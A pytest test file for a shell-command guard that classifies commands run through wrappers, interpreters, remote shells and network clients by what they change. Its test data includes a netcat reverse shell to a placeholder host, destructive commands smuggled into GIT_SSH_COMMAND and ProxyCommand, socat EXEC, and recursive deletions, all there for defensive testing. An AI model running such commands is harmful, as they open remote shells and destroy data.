"""Options that change what a wrapper, interpreter or package runner does with its command."""

from __future__ import annotations

import pytest

from shellguard.classify import Classifier
from shellguard.parse import parse_script
from shellguard.verdict import Crud


@pytest.fixture(scope="module")
def classifier() -> Classifier:
    return Classifier()


def verdict(classifier: Classifier, command: str) -> tuple[Crud, bool]:
    """The class and whether the guard asks."""
    found = classifier.classify(command, cwd="/")
    return found.crud, found.crud != Crud.READ or found.confirm


@pytest.mark.parametrize(("command", "crud"), [
    ("sudo systemd-run --on-calendar=daily ls /srv", Crud.CREATE),
    ("systemd-run --on-active=30 --timer-property=AccuracySec=1s ls", Crud.CREATE),
    ("systemd-run --remain-after-exit ls", Crud.CREATE),
    ("systemd-run --on-boot 5m rm -rf /var/tmp/x", Crud.DELETE),  # the command still counts
    ("systemd-run --scope ls", Crud.READ),
    ("systemd-run --user --wait -p MemoryMax=1G ls", Crud.READ),
    ("systemd-run --shell", Crud.UPDATE),
])
def test_systemd_run_timers_and_kept_units_are_created(classifier: Classifier, command: str,
                                                        crud: Crud) -> None:
    assert verdict(classifier, command)[0] == crud


@pytest.mark.parametrize(("command", "crud"), [
    ("sudo -e /etc/hosts", Crud.UPDATE),
    ("sudo --edit /etc/hosts", Crud.UPDATE),
    ("sudo -u www-data -e /etc/nginx/nginx.conf", Crud.UPDATE),
    ("sudo -k rm -rf build", Crud.DELETE),  # -k with a command still runs it
    ("sudo -k", Crud.READ),
    ("sudo -h", Crud.READ),
    ("sudo -h buildhost ls", Crud.READ),  # -h HOST: the command decides
    ("sudo -i", Crud.UPDATE),
])
def test_sudo_options(classifier: Classifier, command: str, crud: Crud) -> None:
    assert verdict(classifier, command)[0] == crud


@pytest.mark.parametrize(("command", "crud"), [
    ("ionice -p 1234", Crud.READ),
    ("ionice --pid 1234", Crud.READ),
    ("ionice -c3 -p 1234", Crud.UPDATE),
    ("ionice -p 1234 -n 7", Crud.UPDATE),
    ("chrt -p 1234", Crud.READ),
    ("chrt --all-tasks --pid 1234", Crud.READ),
    ("chrt -r -p 10 1234", Crud.UPDATE),
    ("taskset -cp 1234", Crud.READ),
    ("taskset --pid --cpu-list 1234", Crud.READ),
    ("taskset -p 03 1234", Crud.UPDATE),
])
def test_process_options_show_unless_a_value_is_given(classifier: Classifier, command: str,
                                                      crud: Crud) -> None:
    assert verdict(classifier, command)[0] == crud


@pytest.mark.parametrize(("command", "crud", "asks"), [
    ("python -i scripts/report.py", Crud.UPDATE, True),
    ("perl -d script.pl", Crud.UPDATE, True),
    ("perl -de0", Crud.UPDATE, True),
    ("php -a", Crud.UPDATE, True),
    ("php -S localhost:8000", Crud.READ, True),
    ("node --test", Crud.READ, True),
])
def test_interpreter_sessions_and_servers(classifier: Classifier, command: str, crud: Crud,
                                          asks: bool) -> None:
    assert verdict(classifier, command) == (crud, asks)


@pytest.mark.parametrize(("command", "crud"), [
    ("npx prettier@3.3.3 --check src/", Crud.READ),
    ("bunx prettier@3.3.3 --check src/", Crud.READ),
    ("npx @biomejs/biome@1.9.4 check .", Crud.READ),
    ("npx prettier@latest --write .", Crud.UPDATE),
])
def test_package_runner_versions_do_not_hide_the_tool(classifier: Classifier, command: str,
                                                      crud: Crud) -> None:
    assert verdict(classifier, command) == (crud, crud != Crud.READ)


@pytest.mark.parametrize(("command", "crud"), [
    ("ssh -O check db", Crud.READ),
    ("ssh -O exit db", Crud.UPDATE),
    ("ssh -Ocancel -L 8080:localhost:80 db", Crud.UPDATE),
    ("chroot --help", Crud.READ),
])
def test_ssh_control_requests_and_chroot_help(classifier: Classifier, command: str,
                                              crud: Crud) -> None:
    assert verdict(classifier, command)[0] == crud


def test_a_dollar_that_starts_no_expansion_is_literal() -> None:
    # bash keeps `$` before `/`, `.`, `:` ... as it is; tree-sitter-bash calls it an error
    script = parse_script("brew search /^jq$/ && echo a$.b")
    assert script.complete
    assert [c.argv for c in script.commands] == [("brew", "search", "/^jq$/"), ("echo", "a$.b")]


def test_other_syntax_errors_stay_errors() -> None:
    assert not parse_script("echo a$/ $(").complete


@pytest.mark.parametrize(("command", "crud", "asks"), [
    # commands that are string literals are classified as the shell lines they are
    ("awk '{print $2 | \"sort -n | uniq -c\"}' app.log", Crud.READ, False),
    ("awk 'BEGIN { \"date +%s\" | getline now; print now }'", Crud.READ, False),
    ("awk 'BEGIN{while ((\"ls -1\" | getline f) > 0) print f}'", Crud.READ, False),
    ("awk '{print $1 | \"xargs rm\"}' list.txt", Crud.DELETE, True),
    ("gawk -v n=3 'BEGIN{system(\"touch x\")}'", Crud.CREATE, True),
    ("awk '{print | \"sh\"}' cmds", Crud.UPDATE, True),
    # and the rest of the program by the rules
    ("awk '{system(\"ls\"); print > \"out.txt\"}' f", Crud.CREATE, True),
    # a command built at run time, or a coprocess, still asks
    ("awk -F: '{ system(\"id \" $1) }' /etc/passwd", Crud.CREATE, True),
    ("awk '{ cmd = \"md5sum \" $0; cmd | getline h; print h }' files.txt", Crud.READ, True),
    ("awk '{print |& \"sort\"}' f", Crud.CREATE, True),
    # a | in a regex literal is no pipe; a / that divides starts no regex
    ("awk '/a|b/ {print}' f", Crud.READ, False),
    ("awk -F: '$7 !~ /(nologin|false)$/ {print $1, $7}' /etc/passwd", Crud.READ, False),
    ("awk '/x|y/ {print | \"xargs rm\"}' f", Crud.DELETE, True),
    ("awk '{ n = a / b; print n | cmd }' f", Crud.CREATE, True),
    ("awk '$1 ~ /a|b/ {print > \"out.txt\"}' f", Crud.CREATE, True),
])
def test_awk_programs_commands_are_classified_when_literal(classifier: Classifier, command: str,
                                                           crud: Crud, asks: bool) -> None:
    assert verdict(classifier, command) == (crud, asks)


@pytest.mark.parametrize(("command", "crud", "asks"), [
    # the hosts come with options: every operand is the command each host runs
    ("pdsh -w web[1-4] uptime", Crud.READ, False),
    ("pdsh -w web[1-4] 'df -h /' | dshbak -c", Crud.READ, False),
    ("clush -l root -w @web -b 'nginx -v'", Crud.READ, False),
    ("clush -a 'rm -rf /tmp/cache'", Crud.DELETE, True),
    ("pdsh -g web sudo systemctl restart nginx", Crud.UPDATE, True),
    ("pssh -h hosts.txt -i 'uname -r'", Crud.READ, False),
    ("parallel-ssh -h hosts.txt -o out uptime", Crud.CREATE, True),
    ("pdsh -w n1", Crud.UPDATE, True),  # no command: an interactive session
])
def test_parallel_remote_shells_run_their_operands(classifier: Classifier, command: str,
                                                    crud: Crud, asks: bool) -> None:
    assert verdict(classifier, command) == (crud, asks)


@pytest.mark.parametrize(("command", "crud", "asks"), [
    ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy -o IdentitiesOnly=yes' git ls-remote origin",
     Crud.READ, False),
    ("GIT_SSH_COMMAND='ssh -i k' git push", Crud.UPDATE, True),
    ("GIT_SSH_COMMAND='rm -rf build; ssh' git ls-remote origin", Crud.DELETE, True),
    ("GIT_SSH_COMMAND='ssh -o ProxyCommand=\"rm -rf x\"' git fetch", Crud.DELETE, True),
    ("GIT_SSH=./wrap.sh git ls-remote origin", Crud.CREATE, True),
    ("RSYNC_RSH='ssh -p 2222' rsync -n -av src/ host:dst/", Crud.READ, False),
])
def test_a_transport_variable_is_a_command_the_program_completes(
        classifier: Classifier, command: str, crud: Crud, asks: bool) -> None:
    """`GIT_SSH_COMMAND='ssh -i key'`: git adds the host and its own command."""
    assert verdict(classifier, command) == (crud, asks)


@pytest.mark.parametrize(("command", "crud"), [
    ("valgrind ls", Crud.READ),
    ("valgrind --tool=cachegrind ls -R src", Crud.CREATE),
    ("valgrind --tool=massif --massif-out-file=m.out ./app", Crud.CREATE),
    ("valgrind --log-file=v.txt ls", Crud.CREATE),
    ("valgrind --tool=callgrind rm -rf build", Crud.DELETE),
])
def test_valgrind_tools_that_write_profiles(classifier: Classifier, command: str,
                                            crud: Crud) -> None:
    assert verdict(classifier, command)[0] == crud


@pytest.mark.parametrize(("command", "crud", "asks"), [
    # a here-doc on ssh is the remote command's stdin: a shell there runs it
    ("ssh web1 'bash -s' <<'EOF'\ndf -h\nuptime\nEOF", Crud.READ, False),
    ("ssh web1 'bash -s' <<'EOF'\nrm -rf /tmp/cache\nEOF", Crud.DELETE, True),
    ("ssh web1 'cat > /tmp/motd' <<< 'hello'", Crud.CREATE, True),
    ("ssh web1 <<'EOF'\nls -la\nEOF", Crud.READ, False),  # the login shell reads it
    ("ssh web1 <<'EOF'\nsudo systemctl restart nginx\nEOF", Crud.UPDATE, True),
    ("ssh web1", Crud.UPDATE, True),  # no here-doc: an interactive session
])
def test_ssh_here_docs_are_the_remote_commands_input(classifier: Classifier, command: str,
                                                       crud: Crud, asks: bool) -> None:
    assert verdict(classifier, command) == (crud, asks)


@pytest.mark.parametrize(("command", "crud", "asks"), [
    # a client sending text the line shows: the requests decide
    ("echo stats | nc -q 1 localhost 11211", Crud.READ, False),
    ("printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 10.0.0.5 80", Crud.READ, False),
    ("printf '%s\\r\\n' INFO QUIT | nc localhost 6379", Crud.READ, False),
    ("echo 'show servers state' | socat stdio UNIX-CONNECT:/run/haproxy/admin.sock", Crud.READ,
     False),
    ("echo quit | telnet 10.0.0.5 22", Crud.READ, False),
    ("printf 'DELETE /api/x HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' | nc a 80", Crud.DELETE, True),
    ("echo FLUSHALL | nc localhost 6379", Crud.DELETE, True),
    # text that is no request it knows, a listener, a program on the connection: ask
    ("echo 'disable server be/web1' | socat stdio /run/haproxy/admin.sock", Crud.UPDATE, True),
    ("nc host 25", Crud.UPDATE, True),
    ("echo hi | nc -e /bin/sh host 4444", Crud.UPDATE, True),
    ("echo x | socat - EXEC:'rm -rf /tmp/x'", Crud.UPDATE, True),
    ("echo show | socat - /etc/hosts", Crud.UPDATE, True),  # a bare path: written into
    ("echo 'show info' | socat stdio /run/haproxy/admin.sock", Crud.READ, False),  # a socket
    ("echo ruok | nc localhost 2181", Crud.READ, False),
    ("echo -e 'PING\\r' | nc -q 1 localhost 6379", Crud.READ, False),
    ("echo c3RhdHM= | base64 -d | nc localhost 11211", Crud.READ, True),  # decoded: asks
    ("echo stats | nc localhost 6379 <<< FLUSHALL", Crud.DELETE, True),  # the here-string wins
])
def test_text_sent_to_a_service_is_classified_by_its_requests(
        classifier: Classifier, command: str, crud: Crud, asks: bool) -> None:
    assert verdict(classifier, command) == (crud, asks)
